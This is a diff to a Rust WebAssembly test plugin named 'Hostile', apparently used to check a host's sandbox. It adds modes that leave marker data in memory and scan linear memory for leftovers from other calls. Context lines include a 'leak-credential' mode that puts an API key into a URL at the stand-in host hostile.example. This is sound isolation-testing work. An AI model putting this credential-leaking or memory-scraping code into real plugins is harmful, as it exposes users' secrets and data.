@@ -111,6 +111,27 @@ impl Guest for Hostile {
                 outcomes.push(send(&contact.email.unwrap_or_default()));
                 return Err(failure(format!("outcomes: {}", outcomes.join(","))));
             }
+            "leave-behind" => {
+                // Marks every page of 6 MiB (past what a freed slot keeps resident) and
+                // says how many marks it can see itself, proving the scan finds them.
+                let marker = disguised(&transaction.reference);
+                let mut region = vec![0u8; 6 << 20];
+                for page in region.chunks_mut(4096) {
+                    page[..marker.len()].copy_from_slice(&marker);
+                }
+                let seen = marks_elsewhere(&marker);
+                std::hint::black_box(&region);
+                format!("https://hostile.example/left/{seen}")
+            }
+            "find-leftovers" => {
+                // Memory grown again as an allocator trusts it (zeroed), then every byte read.
+                let wanted = transaction.contact.and_then(|c| c.name).unwrap_or_default();
+                let marker = disguised(&wanted);
+                let fresh = vec![0u8; 6 << 20];
+                let stray = fresh.iter().filter(|byte| **byte != 0).count();
+                let found = marks_elsewhere(&marker);
+                format!("https://hostile.example/found/{found}/nonzero/{stray}")
+            }
             "echo" => return Err(failure(echo(&transaction))),
             "leak-credential" => match credentials::get("api_key") {
                 Ok(Some(value)) => format!("https://hostile.example/seen/{value}"),
@@ -151,6 +172,34 @@ impl Guest for Hostile {
 }
 
 export!(Hostile);
+
+/// `text` with every byte moved by one, so the mark a call leaves is never the text another
+/// call is given to look for.
+fn disguised(text: &str) -> Vec<u8> {
+    text.bytes().map(|byte| byte.wrapping_add(1)).collect()
+}
+
+/// How often `marker` occurs in this instance's whole linear memory, outside `marker` itself.
+fn marks_elsewhere(marker: &[u8]) -> usize {
+    if marker.is_empty() {
+        return 0;
+    }
+    let size = core::arch::wasm32::memory_size(0) * 65536;
+    let own = marker.as_ptr() as usize;
+    let byte_at = |address: usize| {
+        // SAFETY: every address below the memory's size is readable in wasm; reading never
+        // changes what the program sees.
+        unsafe { std::ptr::read_volatile(address as *const u8) }
+    };
+    let mut found = 0;
+    // Address 0 is skipped: Rust never places anything there.
+    for start in 1..size.saturating_sub(marker.len()) {
+        if start != own && byte_at(start) == marker[0] && (1..marker.len()).all(|i| byte_at(start + i) == marker[i]) {
+            found += 1;
+        }
+    }
+    found
+}
 
 fn failure(message: String) -> ProviderError {
     ProviderError { kind: ErrorKind::Internal, message, retryable: false }
